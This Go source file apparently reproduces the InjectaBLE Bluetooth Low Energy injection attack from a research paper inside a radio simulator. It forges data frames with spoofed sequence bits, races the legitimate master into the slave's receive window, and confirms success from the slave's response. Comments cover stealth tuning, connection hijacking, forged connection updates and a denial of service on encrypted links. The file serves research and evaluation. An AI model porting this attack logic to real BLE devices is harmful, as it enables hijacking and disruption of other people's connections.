package injectable

import (
	"fmt"

	"injectable/internal/ble"
	"injectable/internal/ble/crc"
	"injectable/internal/ble/pdu"
	"injectable/internal/link"
	"injectable/internal/medium"
	"injectable/internal/obs"
	"injectable/internal/phy"
	"injectable/internal/sim"
)

// jitteryMasterThreshold is the smoothed anchor jitter above which the
// master is treated as phone-grade.
const jitteryMasterThreshold = 3 * sim.Microsecond

// conservativeLead is the injection lead used against jittery masters:
// still far ahead of any plausible master arrival, while leaving the
// slave's widening enough slack to re-acquire the master afterwards.
const conservativeLead = 26 * sim.Microsecond

// InjectorConfig tunes the injection race.
type InjectorConfig struct {
	// AssumedSlavePPM is the slave sleep-clock accuracy assumed in the
	// widening estimate. The paper uses 20 ppm, "the worst case from the
	// attacker's perspective" (§V-C).
	AssumedSlavePPM float64
	// Guard delays the injection slightly past the estimated window open,
	// protecting against over-estimating the widening.
	Guard sim.Duration
	// MaxAttempts bounds the retry loop (0 = 200).
	MaxAttempts int
	// MaxLead caps how far before the predicted anchor the frame fires
	// (0 = 38 µs). Injecting at the very edge of a wide window steals the
	// slave's anchor so aggressively that the slave can then miss the
	// legitimate master (whose own anchor jitter eats the remaining
	// widening margin) and supervision-timeout the victim connection — a
	// DoS when the goal is stealth. 38 µs beats any realistic master to
	// the window while keeping the victim alive across the whole
	// evaluation sweep (EXPERIMENTS.md).
	MaxLead sim.Duration
	// InjectAtWindowCenter is an ablation switch (DESIGN.md §4.3): inject
	// at the predicted anchor instead of the window start, always losing
	// the race unless the master is late.
	InjectAtWindowCenter bool
	// DisableAdaptiveGuard freezes the guard across attempts (ablation):
	// without adaptation, a systematic early fire keeps missing the
	// slave's window.
	DisableAdaptiveGuard bool
}

func (c *InjectorConfig) applyDefaults() {
	if c.AssumedSlavePPM == 0 {
		c.AssumedSlavePPM = 20
	}
	if c.Guard == 0 {
		c.Guard = sim.Microsecond
	}
	if c.MaxAttempts == 0 {
		c.MaxAttempts = 200
	}
	if c.MaxLead == 0 {
		c.MaxLead = 38 * sim.Microsecond
	}
}

// AttemptOutcome classifies one injection attempt (paper Fig. 5).
type AttemptOutcome string

// Attempt outcomes.
const (
	// OutcomeSuccess: the heuristic of eq. 7 confirmed the injection.
	OutcomeSuccess AttemptOutcome = "success"
	// OutcomeTimingMismatch: a slave response was seen but not aligned to
	// the injected frame (the master won the race — situation c).
	OutcomeTimingMismatch AttemptOutcome = "timing-mismatch"
	// OutcomeSeqMismatch: response timing matched but SN/NESN did not
	// (collision corrupted the frame — situation b gone wrong).
	OutcomeSeqMismatch AttemptOutcome = "seq-mismatch"
	// OutcomeNoResponse: no slave frame observed at all.
	OutcomeNoResponse AttemptOutcome = "no-response"
)

// Attempt records one injection attempt.
type Attempt struct {
	Number    int
	Event     uint16
	Channel   uint8
	TxStart   sim.Time
	TxEnd     sim.Time
	Outcome   AttemptOutcome
	SlaveSeen bool
	SlaveAt   sim.Time
	// ResponsePDU is the raw slave response PDU (CRC-valid only) — an
	// injected Read Request's Read Response rides in here.
	ResponsePDU []byte
	// MasterAnchorEstimate is where the legitimate master's anchor was
	// predicted for this event: the injection fired one widening before
	// it. Role-adoption after a hijack times itself from this, not from
	// the injected frame's own start.
	MasterAnchorEstimate sim.Time
}

// Report summarises an injection run (what the paper's dongle notifies to
// the host: "the number of injection attempts before a successful
// injection").
type Report struct {
	Success  bool
	Attempts []Attempt
	// ConnectionLost reports that the followed connection died during the
	// injection run — on an encrypted link that *is* the observable
	// outcome (MIC-failure denial of service, paper §IV).
	ConnectionLost bool
}

// AttemptCount returns the number of attempts made.
func (r Report) AttemptCount() int { return len(r.Attempts) }

// String implements fmt.Stringer.
func (r Report) String() string {
	return fmt.Sprintf("injection{success=%t attempts=%d}", r.Success, len(r.Attempts))
}

// Injector performs the InjectaBLE race against a followed connection.
type Injector struct {
	stack   *link.Stack
	sniffer *Sniffer
	cfg     InjectorConfig

	active *injection

	// Labels and per-attempt callbacks built once, so an attempt arms its
	// timers without allocating.
	injectLabel, timeoutLabel   string
	fireFn, txDoneFn, timeoutFn func()
	responseFn                  func(medium.Received)

	// The sniffer hooks an injection chains onto, bound once. While one
	// is installed, its hooked flag is set and prev* holds the callback it
	// replaced and calls on. A hook left installed by a finished injection
	// (the event-close hook after a connection-lost finish, the lost hook
	// after any finish) is reused by the next Inject, never chained onto
	// itself.
	eventClosedFn                 func(*ConnState)
	lostFn                        func()
	prevEventClosed               func(*ConnState)
	prevLost                      func()
	eventClosedHooked, lostHooked bool

	// OnAttempt observes every settled injection attempt (instrumentation /
	// invariant checking). It fires after the attempt is recorded, before
	// any retry is armed.
	OnAttempt func(a Attempt)
}

// injection is one in-progress Inject call.
type injection struct {
	build    func(st *ConnState) pdu.DataPDU
	report   Report
	done     func(Report)
	txStart  sim.Time
	txEnd    sim.Time
	event    uint16
	channel  uint8
	deadline sim.EventRef
	snA      bool
	nesnA    bool
	lead     sim.Duration // estimated gap from tx start to the master's anchor
	widening sim.Duration // eq. 4 widening estimate used for this attempt
	frame    medium.Frame // the forged frame the pending attempt fires
	// guard adapts upward on silent attempts: a no-response usually means
	// the frame fired before the slave's window opened (relative clock
	// drift ate the margin), so later attempts start slightly later.
	guard sim.Duration
}

// NewInjector builds an injector sharing the sniffer's radio.
func NewInjector(stack *link.Stack, sniffer *Sniffer, cfg InjectorConfig) *Injector {
	cfg.applyDefaults()
	inj := &Injector{
		stack: stack, sniffer: sniffer, cfg: cfg,
		injectLabel:  stack.Name + ":inject",
		timeoutLabel: stack.Name + ":inject-timeout",
	}
	inj.fireFn = inj.fire
	inj.txDoneFn = inj.txDone
	inj.timeoutFn = inj.timeout
	inj.responseFn = inj.onResponse
	inj.eventClosedFn = inj.onEventClosed
	inj.lostFn = inj.onLost
	return inj
}

// Inject races payload into the followed connection, retrying until the
// success heuristic confirms it or MaxAttempts is exhausted. The PDU's
// SN/NESN bits are overwritten per eq. 6 before each attempt.
func (inj *Injector) Inject(payload pdu.DataPDU, done func(Report)) error {
	return inj.InjectDynamic(func(*ConnState) pdu.DataPDU { return payload }, done)
}

// InjectDynamic is Inject with a payload rebuilt before every attempt —
// needed when the frame embeds state that moves between attempts, like the
// instant of a forged CONNECTION_UPDATE (scenarios C and D).
func (inj *Injector) InjectDynamic(build func(st *ConnState) pdu.DataPDU, done func(Report)) error {
	if !inj.sniffer.Following() {
		return fmt.Errorf("injectable: sniffer is not following a connection")
	}
	if inj.active != nil {
		return fmt.Errorf("injectable: injection already in progress")
	}
	inj.active = &injection{build: build, done: done, guard: inj.cfg.Guard}
	// A dying connection (e.g. the MIC-failure DoS on an encrypted link)
	// must settle the injection rather than stall it.
	if !inj.lostHooked {
		inj.prevLost = inj.sniffer.OnLost
		inj.sniffer.OnLost = inj.lostFn
		inj.lostHooked = true
	}
	inj.armNextAttempt()
	return nil
}

// onLost is the sniffer's OnLost while an injection is hooked: it unhooks,
// calls the callback it replaced, and settles a running injection as
// connection-lost.
func (inj *Injector) onLost() {
	prev := inj.prevLost
	inj.sniffer.OnLost, inj.prevLost, inj.lostHooked = prev, nil, false
	if prev != nil {
		prev()
	}
	if inj.active != nil {
		inj.active.report.ConnectionLost = true
		inj.finish()
	}
}

// armNextAttempt waits for the next event boundary with fresh slave
// sequence state, then schedules the race.
func (inj *Injector) armNextAttempt() {
	if inj.active == nil {
		return // a stale event-close hook fired after the run finished
	}
	st := inj.sniffer.State()
	if st.AnchorKnown && st.HaveSlaveSeq && st.MissedEvents == 0 &&
		st.LastEventSawSlave && inj.safeEvent(st) {
		inj.scheduleAttempt()
		return
	}
	// Not ready: observe one more event.
	if !inj.eventClosedHooked {
		inj.prevEventClosed = inj.sniffer.OnEventClosed
		inj.sniffer.OnEventClosed = inj.eventClosedFn
		inj.eventClosedHooked = true
	}
}

// onEventClosed is the sniffer's OnEventClosed while an attempt waits for
// a suitable event: it unhooks, calls the callback it replaced, and tries
// again.
func (inj *Injector) onEventClosed(s *ConnState) {
	prev := inj.prevEventClosed
	inj.sniffer.OnEventClosed, inj.prevEventClosed, inj.eventClosedHooked = prev, nil, false
	if prev != nil {
		prev(s)
	}
	inj.armNextAttempt()
}

// safeEvent avoids injecting across a procedure instant, where the
// channel/timing for the next event is about to change.
func (inj *Injector) safeEvent(st *ConnState) bool {
	next := st.EventCount
	if st.PendingUpdate != nil && st.PendingUpdate.Instant == next {
		return false
	}
	if st.PendingChMap != nil && st.PendingChMap.Instant == next {
		return false
	}
	return true
}

// scheduleAttempt takes the radio and fires the forged frame at the
// estimated opening of the slave's widened receive window.
func (inj *Injector) scheduleAttempt() {
	st := inj.sniffer.State()
	act := inj.active
	span := sim.Duration(st.MissedEvents+1) * st.IntervalDuration()
	wEst := WindowWideningEstimate(st.Params.MasterSCA, inj.cfg.AssumedSlavePPM, span)
	maxLead := inj.cfg.MaxLead
	// A sloppy master (phone-grade anchor jitter) leaves the slave less
	// margin to re-acquire it after an anchor steal: back the lead off to
	// keep the victim connection alive (the attack's whole point is
	// stealth).
	if st.AnchorJitterEWMA > jitteryMasterThreshold && maxLead > conservativeLead {
		maxLead = conservativeLead
	}
	if wEst > maxLead {
		wEst = maxLead
	}

	offset := span - wEst + act.guard
	if inj.cfg.InjectAtWindowCenter {
		offset = span
	}
	act.lead = span - offset
	act.widening = wEst
	act.event = st.EventCount
	act.channel = st.ChannelFor(st.EventCount)

	// Forge the header per eq. 6 from the sniffed slave state.
	act.snA, act.nesnA = st.InjectionSN()
	p := act.build(st)
	p.Header.SN = act.snA
	p.Header.NESN = act.nesnA
	raw := p.Marshal()
	act.frame = medium.Frame{
		Mode:          phy.LE1M,
		AccessAddress: uint32(st.Params.AccessAddress),
		PDU:           raw,
		CRC:           crc.Compute(st.Params.CRCInit, raw),
	}

	inj.sniffer.Pause()
	inj.stack.Clock.AtLocalOffset(st.LastAnchor, offset, inj.injectLabel, inj.fireFn)
}

// fire transmits the forged frame and observes the slave's reaction.
func (inj *Injector) fire() {
	act := inj.active
	frame := act.frame
	inj.stack.Radio.SetChannel(phy.Channel(act.channel))
	inj.stack.Radio.SetAccessAddress(frame.AccessAddress)
	act.txStart = inj.stack.Sched.Now()
	act.txEnd = act.txStart.Add(frame.AirTime())
	sim.Emit(inj.stack.Tracer, act.txStart, inj.stack.Name, "inject-tx", func() []sim.Field {
		return []sim.Field{sim.F("event", act.event), sim.F("ch", act.channel), sim.F("len", len(frame.PDU))}
	})
	// Open the forensics entry before the transmission hits the medium,
	// so the medium's tx/lock/collision events correlate to it.
	inj.stack.Obs.BeginAttempt(obs.AttemptStart{
		Attempt: len(act.report.Attempts) + 1,
		Event:   act.event, Channel: act.channel,
		TxStart: act.txStart, TxEnd: act.txEnd,
		Lead: act.lead, WideningEst: act.widening,
	})
	inj.stack.Radio.OnTxDone = inj.txDoneFn
	inj.stack.Radio.Transmit(frame)
}

// txDone listens for the slave's reaction once the forged frame is out.
func (inj *Injector) txDone() {
	act := inj.active
	inj.stack.Radio.OnTxDone = nil
	inj.stack.Radio.OnFrame = inj.responseFn
	inj.stack.Radio.StartListening()
	// Give the slave T_IFS + a max-length response + margin.
	deadline := ble.TIFS + phy.LE1M.AirTime(ble.MaxDataPDULen+6) + 80*sim.Microsecond
	act.deadline = inj.stack.Sched.After(deadline, inj.timeoutLabel, inj.timeoutFn)
}

// timeout settles an attempt the slave never answered.
func (inj *Injector) timeout() {
	if inj.stack.Radio.Locked() || inj.stack.Radio.Acquiring() {
		return // response arriving; onResponse settles it
	}
	act := inj.active
	inj.settle(Attempt{
		Number: len(act.report.Attempts) + 1, Event: act.event,
		Channel: act.channel, TxStart: act.txStart, TxEnd: act.txEnd,
		Outcome:              OutcomeNoResponse,
		MasterAnchorEstimate: act.txStart.Add(act.lead),
	})
}

// onResponse applies the success heuristic (eq. 7) to the first frame
// heard after the injection.
func (inj *Injector) onResponse(rx medium.Received) {
	act := inj.active
	if act == nil {
		return
	}
	st := inj.sniffer.State()
	inj.stack.Sched.Cancel(act.deadline)
	inj.stack.Radio.OnFrame = nil
	inj.stack.Radio.StopListening()

	attempt := Attempt{
		Number: len(act.report.Attempts) + 1, Event: act.event,
		Channel: act.channel, TxStart: act.txStart, TxEnd: act.txEnd,
		SlaveSeen: true, SlaveAt: rx.StartAt,
		MasterAnchorEstimate: act.txStart.Add(act.lead),
	}

	// Condition 1 (timing): t_a + d_a + 150 − 5 < t_s < t_a + d_a + 150 + 5.
	expected := act.txEnd.Add(ble.TIFS)
	timingOK := rx.StartAt.After(expected.Add(-5*sim.Microsecond)) &&
		rx.StartAt.Before(expected.Add(5*sim.Microsecond))

	// Condition 2 (sequence): (SN_a+1) mod 2 == NESN'_s ∧ NESN_a == SN'_s.
	seqOK := false
	crcOK := crc.Check(st.Params.CRCInit, rx.Frame.PDU, rx.Frame.CRC)
	var resp pdu.DataPDU
	if crcOK {
		if p, err := pdu.UnmarshalDataPDU(rx.Frame.PDU); err == nil {
			resp = p
			seqOK = (resp.Header.NESN != act.snA) && (resp.Header.SN == act.nesnA)
			attempt.ResponsePDU = append([]byte(nil), rx.Frame.PDU...)
		}
	}

	switch {
	case timingOK && seqOK:
		attempt.Outcome = OutcomeSuccess
	case timingOK:
		attempt.Outcome = OutcomeSeqMismatch
	default:
		attempt.Outcome = OutcomeTimingMismatch
	}

	// Fold the observation back into the shared state.
	if crcOK {
		st.observeSlave(resp)
	}
	if attempt.Outcome == OutcomeSuccess {
		// The slave re-anchored on OUR frame.
		st.LastAnchor = act.txStart
		st.AnchorKnown = true
		st.MissedEvents = 0
	} else {
		// The master likely kept the anchor; we did not observe it.
		st.MissedEvents++
	}
	inj.settle(attempt)
}

// settle records the attempt and retries or completes.
func (inj *Injector) settle(a Attempt) {
	act := inj.active
	st := inj.sniffer.State()
	act.report.Attempts = append(act.report.Attempts, a)
	sim.Emit(inj.stack.Tracer, inj.stack.Sched.Now(), inj.stack.Name, "inject-attempt", func() []sim.Field {
		return []sim.Field{sim.F("n", a.Number), sim.F("outcome", string(a.Outcome)), sim.F("event", a.Event)}
	})
	inj.stack.Obs.EndAttempt(obs.AttemptEnd{
		Outcome:        string(a.Outcome),
		SlaveResponded: a.SlaveSeen,
		ResponseValid:  len(a.ResponsePDU) > 0,
	}, float64(st.AnchorJitterEWMA)/float64(sim.Microsecond))
	if inj.OnAttempt != nil {
		inj.OnAttempt(a)
	}
	if a.Outcome == OutcomeNoResponse {
		st.MissedEvents++
		// Adapt: fire a little later next time (the slave heard nothing,
		// so we were probably ahead of its window).
		if !inj.cfg.DisableAdaptiveGuard && act.guard < 12*sim.Microsecond {
			act.guard += 1500 * sim.Nanosecond
		}
	}
	st.EventCount++

	if a.Outcome == OutcomeSuccess {
		act.report.Success = true
		inj.finish()
		return
	}
	if len(act.report.Attempts) >= inj.cfg.MaxAttempts {
		inj.finish()
		return
	}
	// Re-arm: resume sniffing to refresh anchor/sequence state, then try
	// again at the next suitable event.
	inj.sniffer.Resume()
	inj.armNextAttempt()
}

// finish completes the Inject call.
func (inj *Injector) finish() {
	act := inj.active
	inj.active = nil
	// A race cut short by connection loss leaves a dangling ledger
	// entry; close it so the forensics stay attempt-complete.
	inj.stack.Obs.AbortAttempt("connection-lost")
	inj.sniffer.Resume()
	if act.done != nil {
		act.done(act.report)
	}
}
